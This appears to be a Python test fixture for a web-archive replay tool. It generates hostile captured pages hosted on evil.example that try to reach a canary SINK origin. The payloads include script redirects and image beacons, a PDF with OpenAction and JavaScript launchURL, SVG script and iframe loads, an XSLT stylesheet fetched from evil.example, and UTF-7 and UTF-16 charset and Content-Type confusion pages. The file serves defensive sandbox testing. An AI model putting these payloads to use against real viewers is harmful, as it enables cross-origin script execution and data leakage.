"""Captured pages that attack whoever looks at them: a page an attack, by name.

SINK stands for the origin of a canary that must see nothing. What a script gives is kept in ``window.out``.
"""

import tomllib
from pathlib import Path

from tests.archive.replay.written import Answer

TRIED = tomllib.loads(Path(__file__).with_name("scripts.toml").read_text("utf-8"))
_LEAVE = "<script>location = 'SINK/{name}'; open('SINK/{name}'); new Image().src = 'SINK/{name}'</script>"

# Content-Type fields under which a page that leaves is stored.
_TYPES: dict[str, tuple[str, ...]] = {
    "pdf-then-html": ("application/pdf", "text/html"),
    "javascript-then-html": ("text/javascript", "text/html"),
    "javascript-and-html": ("text/javascript, text/html",),
    "html-then-nothing": ("text/html", "x"),
    "none": (),
    "unknown": ("*/*",),
    "plain": ("text/plain",),
    "parts": ("multipart/x-mixed-replace; boundary=a",),
    "xml": ("application/xml",),
    "xhtml": ("application/xhtml+xml",),
}
# Charsets by Content-Type, and the codec in which a page that leaves is written.
_CHARSETS: dict[str, tuple[tuple[str, ...], str]] = {
    **{label: ((f"text/html; charset={label}",), "utf-16-le") for label in (
        "unicode", "ucs-2", "csunicode", "iso-10646-ucs-2", "unicodefeff", "utf-16",
    )},
    "unicodefffe": (("text/html; charset=unicodefffe",), "utf-16-be"),
    "two-charsets": (("text/html; charset=utf-8", "text/html; charset=utf-16"), "utf-16-le"),
    "two-in-one": (("text/html; charset=utf-16, text/html; charset=utf-8",), "utf-16-le"),
    "utf-7": (("text/html; charset=utf-7",), "utf-7"),
    "iso-2022-kr": (("text/html; charset=iso-2022-kr",), "ascii"),
}  # fmt: skip
_XSLT = (
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/style.xsl"?><page/>',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
    "<html><body><script>location = 'SINK/xslt'</script></body></html></xsl:template></xsl:stylesheet>",
)
_PDF = (
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(SINK/pdf)>>/AA<</O<</S/JavaScript"
    "/JS(app.launchURL\\('SINK/pdf2'\\))>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
)


def attacks(sink: str, reading: str) -> dict[str, Answer]:
    """The captured pages by name, all of evil.example, and what they need beside them."""
    pages: dict[str, bytes] = {}
    fields: dict[str, tuple[str, ...]] = {}
    for name, attempt in TRIED["reach"].items():
        pages[f"reach-{name}"] = _scripted(f"(async () => {attempt})()").encode()
    for name, attempt in TRIED["leave"].items():
        pages[f"leave-{name}"] = _scripted(f"(async () => {{ {attempt} }})()").encode()
    for name, markup in TRIED["markup"].items():
        pages[f"markup-{name}"] = f"<!doctype html><title>Evil</title><body>{markup}<p>evil".encode()
    for name, types in _TYPES.items():
        pages[f"type-{name}"], fields[f"type-{name}"] = _leaving(f"type-{name}").encode(), types
    for name, (types, codec) in _CHARSETS.items():
        page = _leaving(f"charset-{name}").replace("SINK", sink)
        pages[f"charset-{name}"], fields[f"charset-{name}"] = page.encode(codec), types
    pages["xslt"], fields["xslt"] = _XSLT[0].encode(), ("text/xml",)
    pages["svg"], fields["svg"] = _drawing().encode(), ("image/svg+xml",)
    pages["pdf"], fields["pdf"] = _PDF.encode(), ("application/pdf",)
    made = {
        name: _answer(name, page, fields.get(name, ("text/html",)), sink, reading) for name, page in pages.items()
    }
    extra = Answer(
        "http://evil.example/style.xsl", _XSLT[1].replace("SINK", sink).encode(), ("Content-Type: text/xsl",)
    )
    worker = Answer(
        "http://evil.example/sw.js", b"addEventListener('fetch', () => {})", ("Content-Type: text/javascript",)
    )
    return {**made, "needed-sheet": extra, "needed-worker": worker}


def _answer(name: str, page: bytes, types: tuple[str, ...], sink: str, reading: str) -> Answer:
    filled = page.replace(b"SINK", sink.encode()).replace(b"READING", reading.encode())
    filled = filled.replace(b"STUN", sink.removeprefix("http://").encode())
    return Answer(f"http://evil.example/{name}.html", filled, tuple(f"Content-Type: {each}" for each in types))


def _scripted(promise: str) -> str:
    return (
        "<!doctype html><title>Evil</title><body><p>evil<script>window.out = 'nothing came';"
        f"setTimeout(() => {promise}.then(got => window.out = String(got), error => window.out = 'refused: ' + error)"
        ")</script>"
    )


def _leaving(name: str) -> str:
    return f"<html xmlns='http://www.w3.org/1999/xhtml'><body>{_LEAVE.format(name=name)}<p>evil</p></body></html>"


def _drawing() -> str:
    return (
        "<svg xmlns='http://www.w3.org/2000/svg'><script>location = 'SINK/svg'</script>"
        "<image href='SINK/svgimage'/><foreignObject>"
        "<iframe xmlns='http://www.w3.org/1999/xhtml' src='SINK/svgframe'/></foreignObject></svg>"
    )
